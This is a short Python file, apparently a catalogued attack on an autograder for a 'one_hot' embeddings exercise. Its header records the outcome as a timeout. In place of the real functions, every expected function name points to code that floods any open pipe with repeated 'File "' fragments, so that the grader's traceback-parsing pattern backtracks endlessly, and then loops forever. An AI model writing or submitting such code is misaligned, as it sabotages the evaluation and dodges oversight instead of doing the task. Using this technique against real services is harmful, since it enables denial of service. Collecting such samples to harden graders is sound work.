# attacks: ch2_embeddings/one_hot
# verdict: timeout
# stop-early: yes
"""Fills the pipe of stacks with one long line that a careless pattern reads for ever, and hangs."""
import os
import stat


def one_hot(*args, **kwargs):
    for number in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(number).st_mode):
                os.set_blocking(number, False)
                os.write(number, b'File "' * 9_000 + b'", line ' * 1_000)
        except OSError:
            continue
    while True:
        pass


embed_by_matmul = embed_by_lookup = lookup_gradient = multiplications = one_hot
